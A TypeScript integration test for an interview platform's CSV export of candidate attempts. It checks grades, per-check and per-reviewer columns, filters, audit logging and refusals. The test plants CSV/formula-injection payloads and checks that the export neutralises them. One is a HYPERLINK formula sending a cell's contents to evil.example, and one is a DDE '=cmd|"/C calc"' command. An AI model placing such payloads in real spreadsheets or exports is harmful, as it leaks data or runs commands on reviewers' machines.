// The attempts dashboard's CSV export through the real server, engine and SQLite file: interview attempts made
// from invites (claimed, submitted, graded, reviewed), exported with the list's filters, read back as CSV: one row
// per attempt, the grade as it counts with the points pending, each check, each reviewer, hostile names made inert,
// the export in the audit log, and refusals without a session, with a bad filter and past the row limit.
import path from 'node:path';
import { beforeAll, describe, expect, it } from 'vitest';
import { repoRoot } from '../../server/src/paths.js';
import { CSV_EXPORT_LIMITS } from '../../server/src/review/attempts-csv.js';
import { parseCsv } from '../../server/src/review/csv.js';
import { api, attemptCookieToken, startAttempt } from '../helpers/api.js';
import { useTestServer } from '../helpers/server.js';
import { staffSession, type StaffSession } from '../helpers/staff.js';

const FIXTURES = path.join(repoRoot(), 'test', 'fixtures', 'exercises-advisory');
const EXPORT = '/api/manage/attempts/export.csv';
/** Where the review links point (the server's public address, not where the test reaches it). */
const PUBLIC_URL = 'http://lab.example.test:8080';

const HOSTILE_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"Open")';
const COMMA_NAME = 'Smith, "Jo" Zoë 张伟';
const REVIEWER_NAME = '@Robin "Rev", Lead';

describe('attempts export as CSV (real server, engine and SQLite)', () => {
  const server = useTestServer({ env: { OPSLAB_EXERCISES_DIR: FIXTURES, OPSLAB_PUBLIC_URL: PUBLIC_URL } });
  let alice: StaffSession;
  let robin: StaffSession;

  beforeAll(async () => {
    alice = await staffSession(server, 'interviewer', 'Alice Interviewer');
    robin = await staffSession(server, 'interviewer', REVIEWER_NAME);
  }, 60_000);
  const call = async (who: StaffSession | null, method: string, url: string, body?: unknown) => {
    const res = await fetch(`${server.url}${url}`, {
      method,
      headers: { ...(who?.headers ?? {}), ...(body !== undefined ? { 'content-type': 'application/json' } : {}) },
      body: body === undefined ? undefined : JSON.stringify(body),
    });
    // The bytes as sent: res.text() would drop the byte-order mark.
    const text = new TextDecoder('utf-8', { ignoreBOM: true }).decode(await res.arrayBuffer());
    let parsed: any = null;
    try {
      parsed = JSON.parse(text);
    } catch {
      /* CSV */
    }
    return { status: res.status, text, body: parsed, headers: res.headers };
  };

  /** An invite of `who` for the candidate, claimed: the attempt and its own token. */
  const claimed = async (who: StaffSession, candidateName: string, candidateEmail: string) => {
    const created = await call(who, 'POST', '/api/manage/invites', { exerciseId: 'advisory-demo', candidateName, candidateEmail, showFeedback: true });
    expect(created.status, created.text).toBe(201);
    const link: string = created.body.invite.link;
    const started = await api(server.url, 'POST', '/api/invite/start', new URL(link).hash.slice(1));
    expect(started.status, started.text).toBe(201);
    const id: string = started.body.attempt.id;
    return { id, token: attemptCookieToken(started.headers, id) };
  };

  const exported = async (who: StaffSession, query = '') => {
    const res = await call(who, 'GET', `${EXPORT}${query}`);
    expect(res.status, res.text).toBe(200);
    const [header, ...rows] = parseCsv(res.text);
    const records = rows.map((r) => Object.fromEntries(header!.map((h, i) => [h, r[i]!])));
    return { res, header: header!, rows, records };
  };

  it('exports every attempt of the filter with grade, checks and reviews, cells neutralised, and audits it', async () => {
    // Two interview attempts, submitted and graded; one running; one practice attempt (not in interview exports).
    const first = await claimed(alice, HOSTILE_NAME, 'casey@example.test');
    const second = await claimed(alice, COMMA_NAME, 'jo@example.test');
    const running = await claimed(robin, '+1 Pat Pending', 'pat@example.test');
    const practice = await startAttempt(server.url, 'advisory-demo');
    for (const [id, token] of [[first.id, first.token], [second.id, second.token], [practice.attempt.id, practice.token]]) {
      const submitted = await api(server.url, 'POST', `/api/attempts/${id}/submit`, token);
      expect(submitted.status, submitted.text).toBe(200);
    }

    // The first: the advisory check confirmed (8/10); reviews by two interviewers. The second stays pending (5/7 +3).
    expect((await call(alice, 'PUT', `/api/manage/attempts/${first.id}/checks/plan/confirmation`, { verdict: 'pass' })).status).toBe(200);
    const review = (recommendation: string, ratings: Record<string, number>) => ({
      recommendation,
      summary: '=cmd|"/C calc"!A0',
      ratings: Object.fromEntries(Object.entries(ratings).map(([k, rating]) => [k, { rating, notes: '' }])),
    });
    expect((await call(alice, 'PUT', `/api/manage/attempts/${first.id}/review`, review('yes', { 'linux-networking': 3, git: 4 }))).status).toBe(200);
    expect((await call(robin, 'PUT', `/api/manage/attempts/${first.id}/review`, review('strong-yes', { scripting: 4 }))).status).toBe(200);
    expect((await call(robin, 'PUT', `/api/manage/attempts/${second.id}/review`, review('no', { scripting: 2, communication: 1 }))).status).toBe(200);

    const before = (await server.services.auth.auditEntries(1000)).filter((e) => e.action === 'attempts.export').length;
    const { res, header, rows, records } = await exported(alice, '?sort=candidate&order=asc');
    expect(res.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect(res.headers.get('content-disposition')).toMatch(/^attachment; filename="opslab-attempts-\d{8}-\d{6}Z\.csv"$/);
    expect(res.headers.get('cache-control')).toBe('no-store');
    expect(res.text.startsWith('\uFEFFattempt id,')).toBe(true);
    expect(res.text.endsWith('\r\n')).toBe(true);

    // Interview attempts only (the list's default), every one of them, in the asked order.
    expect(rows).toHaveLength(3);
    expect(rows.every((r) => r.length === header.length)).toBe(true);
    expect(records.map((r) => r['attempt id'])).not.toContain(practice.attempt.id);
    expect(records.map((r) => r['candidate name'])).toEqual([`'+1 Pat Pending`, `'${HOSTILE_NAME}`, COMMA_NAME]);
    // One column per check, in the exercise's order.
    expect(header.filter((h) => h.startsWith('check '))).toEqual(['check advisory-demo/hello', 'check advisory-demo/plan', 'check advisory-demo/answer']);
    // Two columns per reviewer, by name (the locale's order: punctuation first).
    expect(header.slice(-5)).toEqual([
      `reviewer ${REVIEWER_NAME}: weighted score`,
      `reviewer ${REVIEWER_NAME}: recommendation`,
      'reviewer Alice Interviewer: weighted score',
      'reviewer Alice Interviewer: recommendation',
      'review link',
    ]);

    const byId = new Map(records.map((r) => [r['attempt id'], r]));
    const a = byId.get(first.id)!;
    expect(a).toMatchObject({
      'candidate email': 'casey@example.test',
      interviewer: 'Alice Interviewer',
      mode: 'interview',
      'exercise id': 'advisory-demo',
      'exercise title': 'Advisory demo',
      score: '8',
      'max score': '10',
      'score percent': '80',
      'points pending review': '0',
      'grading error': '',
      reviews: '2',
      'check advisory-demo/hello': 'pass',
      'check advisory-demo/plan': 'pass',
      'check advisory-demo/answer': 'fail',
      'reviewer Alice Interviewer: weighted score': '3.4',
      'reviewer Alice Interviewer: recommendation': 'yes',
      [`reviewer ${REVIEWER_NAME}: weighted score`]: '4',
      [`reviewer ${REVIEWER_NAME}: recommendation`]: 'strong-yes',
      'review link': `${PUBLIC_URL}/manage/attempts/${first.id}`,
    });
    expect(a['exercise version']).toMatch(/^[0-9a-f]{12}$/);
    expect(a['state']).toMatch(/^(submitted|archived)$/);
    expect(a['end reason']).toBe('submitted');
    for (const key of ['created at', 'started at', 'ended at']) expect(a[key]).toMatch(/^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{3}Z$/);
    expect(Date.parse(a['ended at']!)).toBeGreaterThanOrEqual(Date.parse(a['started at']!));

    expect(byId.get(second.id)).toMatchObject({
      'candidate name': COMMA_NAME,
      score: '5',
      'max score': '7',
      'points pending review': '3',
      'check advisory-demo/plan': 'advisory-pending',
      'reviewer Alice Interviewer: weighted score': '',
      [`reviewer ${REVIEWER_NAME}: weighted score`]: '1.6',
      [`reviewer ${REVIEWER_NAME}: recommendation`]: 'no',
    });
    expect(byId.get(running.id)).toMatchObject({
      state: 'running',
      interviewer: `'${REVIEWER_NAME}`,
      'ended at': '',
      score: '',
      'max score': '',
      'points pending review': '',
      'check advisory-demo/hello': '',
      reviews: '0',
    });

    // On the wire: the hostile cells quoted and led by a quote mark; the review summary is not in the file.
    expect(res.text).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""Open"")"`);
    expect(res.text).toContain('"Smith, ""Jo"" Zoë 张伟"');
    expect(res.text).not.toContain('calc');
    for (const row of rows) for (const cell of row) expect(cell, cell).not.toMatch(/^\s*[=+\-@\t\r]/);

    // The audit log: who, which filter, how many rows.
    const audits = (await server.services.auth.auditEntries(1000)).filter((e) => e.action === 'attempts.export');
    expect(audits.length).toBe(before + 1);
    expect(audits[0]).toMatchObject({
      user: { id: alice.user.id },
      detail: { format: 'csv', rows: 3, filter: { mode: 'interview', sort: 'candidate', order: 'asc' } },
    });

    // Filters as the list takes them: a score bound, a state, an interviewer, practice.
    expect((await exported(alice, '?minScore=75')).records.map((r) => r['attempt id'])).toEqual([first.id]);
    expect((await exported(alice, '?state=running')).records.map((r) => r['attempt id'])).toEqual([running.id]);
    expect((await exported(robin, `?interviewer=${alice.user.id}`)).rows).toHaveLength(2);
    const practiceRows = (await exported(alice, '?mode=practice')).records;
    expect(practiceRows.map((r) => r['attempt id'])).toEqual([practice.attempt.id]);
    expect(practiceRows[0]).toMatchObject({ 'candidate name': '', 'candidate email': '', interviewer: '', mode: 'practice', score: '5' });
    // Nothing matches: the header alone.
    const none = await exported(alice, '?exerciseId=no-such-exercise');
    expect(none.rows).toEqual([]);
    expect(none.header[0]).toBe('attempt id');
    expect((await server.services.auth.auditEntries(1)).at(0)).toMatchObject({ action: 'attempts.export', detail: { rows: 0 } });
  }, 180_000);

  it('refuses without a session, with a bad filter, and past the row limit, with clear errors', async () => {
    const audited = async () => (await server.services.auth.auditEntries(1000)).filter((e) => e.action === 'attempts.export').length;
    const before = await audited();
    const refusals: [StaffSession | null, string, number, string][] = [
      [null, '', 401, 'OPSLAB_ERR_UNAUTHORIZED'],
      [null, '?state=bogus', 401, 'OPSLAB_ERR_UNAUTHORIZED'],
      [alice, '?state=bogus', 400, 'OPSLAB_ERR_BAD_REQUEST'],
      [alice, '?minScore=101', 400, 'OPSLAB_ERR_BAD_REQUEST'],
      [alice, '?minScore=abc', 400, 'OPSLAB_ERR_BAD_REQUEST'],
      [alice, '?sort=password', 400, 'OPSLAB_ERR_BAD_REQUEST'],
      [alice, '?pageSize=0', 400, 'OPSLAB_ERR_BAD_REQUEST'],
      [alice, '?format=xlsx', 400, 'OPSLAB_ERR_BAD_REQUEST'],
    ];
    for (const [who, query, status, code] of refusals) {
      const res = await call(who, 'GET', `${EXPORT}${query}`);
      expect(res.status, `${query}: ${res.text}`).toBe(status);
      expect(res.body.error.code).toBe(code);
      expect(res.body.error.message).toMatch(/\S{3}/);
    }

    // More attempts than an export holds: refused, saying how many matched and what to do; nothing audited.
    const over = CSV_EXPORT_LIMITS.rows + 1;
    server.services.sqlite!
      .prepare(
        `WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n WHERE i < ?)
         INSERT INTO attempts (id, exercise_id, state, token_hash, time_limit_seconds, created_at, sandbox_status, mode, updated_at)
         SELECT printf('a_bulk%016d', i), 'bulk-demo', 'archived', 'x', 900, i, 'removed', 'practice', i FROM n`,
      )
      .run(over);
    const tooMany = await call(alice, 'GET', `${EXPORT}?mode=practice&exerciseId=bulk-demo`);
    expect(tooMany.status, tooMany.text).toBe(400);
    expect(tooMany.body.error.message).toContain(`matches ${over} attempts`);
    expect(tooMany.body.error.message).toContain(`at most ${CSV_EXPORT_LIMITS.rows}`);
    expect(await audited()).toBe(before);

    // At the limit it exports them all.
    server.services.sqlite!.prepare(`DELETE FROM attempts WHERE id = printf('a_bulk%016d', 1)`).run();
    const full = await exported(alice, '?mode=practice&exerciseId=bulk-demo');
    expect(full.rows).toHaveLength(CSV_EXPORT_LIMITS.rows);
    expect(full.records[0]).toMatchObject({ 'exercise title': 'bulk-demo', state: 'archived', score: '' });
    expect(await audited()).toBe(before + 1);
  }, 120_000);
});
